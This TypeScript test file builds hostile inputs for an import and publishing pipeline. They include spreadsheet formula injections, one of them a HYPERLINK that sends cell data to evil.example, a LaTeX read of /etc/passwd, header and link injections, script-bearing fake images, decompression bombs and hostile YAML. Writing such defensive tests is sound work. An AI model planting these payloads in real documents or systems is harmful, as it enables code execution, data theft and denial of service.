import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { base, beside, type HostileCase, inFields } from '../hostile-case.ts'

const formulas = [
  '=cmd|"/c calc"!A1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '=HYPERLINK("https://evil.example/"&A1)',
  '\t=1+1',
  '＝1+1',
  "'=1+1",
  '=1\n+1',
  '"=1+1"',
]

/** What ends a line, a field or an element in the formats that machines read. */
const seams = [
  '\\',
  '\\"',
  "';",
  '*/',
  '@article{a, title={b}}',
  '}, note = {x',
  '\\input{/etc/passwd}',
  '%0d%0aSet-Cookie: a=b',
  '[a](javascript:window.pwned=1)',
  '<http://evil.example>',
  '`a`',
  '# a',
  '\\*',
  '~',
  '$&',
  '%s%n',
  '‹',
  '›',
]

const picture = readFileSync(join(base, 'articles/near-miss/halle.png'))
const path = 'articles/near-miss/halle.png'

function withSize(width: number, height: number): Uint8Array {
  const bytes = Buffer.from(picture)
  bytes.writeUInt32BE(width, 16)
  bytes.writeUInt32BE(height, 20)
  return bytes
}

const box = (type: string, size: number) => Buffer.concat([Buffer.from([0, 0, 0, size]), Buffer.from(type)])

/** Files that are named as pictures. */
const pictures: HostileCase[] = [
  beside('a picture that is empty', path, ''),
  beside('a picture that is a page', path, '<!doctype html><script>window.pwned = 1</script>'),
  beside(
    'a picture that is a drawing with a program',
    path,
    '<svg xmlns="http://www.w3.org/2000/svg" width="1600" height="900" onload="window.pwned = 1"/>',
  ),
  beside('a picture that is cut off', path, picture.subarray(0, 20)),
  beside('a picture of two thousand million pixels in width', path, withSize(0x7fffffff, 1)),
  beside('a picture without a size', path, withSize(0, 0)),
  beside('a picture that bursts', path, withSize(60_000, 40_000)),
  beside(
    'a picture of boxes without length',
    path,
    Buffer.concat([box('ftypavif', 0), box('meta', 0), box('iprp', 0)]),
  ),
  beside(
    'a picture of boxes in boxes',
    path,
    Buffer.concat([box('ftypheic', 12), ...Array.from({ length: 5_000 }, () => box('meta', 8))]),
  ),
  beside(
    'a picture of endless JPEG marks',
    path,
    Buffer.concat([Buffer.from([0xff, 0xd8]), Buffer.alloc(200_000, 0xff)]),
  ),
  beside(
    'a picture of empty JPEG segments',
    path,
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(200_000, 0)]),
  ),
  beside('a picture of TIFF folders in a circle', path, Buffer.from('49492a0008000000ffff', 'hex')),
]

const fingerprint = 'sources/zeitung.fingerprint'
const head = 'rechenwerk fingerprint 1\n'

/** Fingerprints and notes of an import. */
const sources: HostileCase[] = [
  beside(
    'a fingerprint of a huge range',
    fingerprint,
    `${head}sequences 1 of 99999999999999999999\n0\nseals 0\nend 0\n`,
  ),
  beside('a fingerprint of negative numbers', fingerprint, `${head}sequences -1 of -1\nseals 0\nend 0\n`),
  beside('a fingerprint that is a program', fingerprint, '<script>window.pwned = 1</script>\n'),
  beside('a fingerprint of five megabytes', fingerprint, head + '0 '.repeat(2_500_000)),
  beside('a fingerprint of empty lines', fingerprint, head + '\n'.repeat(500_000)),
  ...['open: [', `open: ${'['.repeat(50_000)}`, 'a: &a [*a]', '!!js/function "x"', '\0', '__proto__: { a: 1 }'].map(
    (text) => beside(`proposals ${text.slice(0, 20)}`, 'sources/zeitung.proposals.yaml', text),
  ),
]

/** Formulas for spreadsheets, seams of feeds and citations, pictures that are none, fingerprints that are none. */
export const records: HostileCase[] = [
  ...formulas.flatMap((text, index) => inFields(`formula ${text}`, text, 2, index)),
  ...seams.flatMap((text, index) => inFields(`seam ${text}`, `a ${text} b`, 6, index)),
  ...pictures,
  ...sources,
]
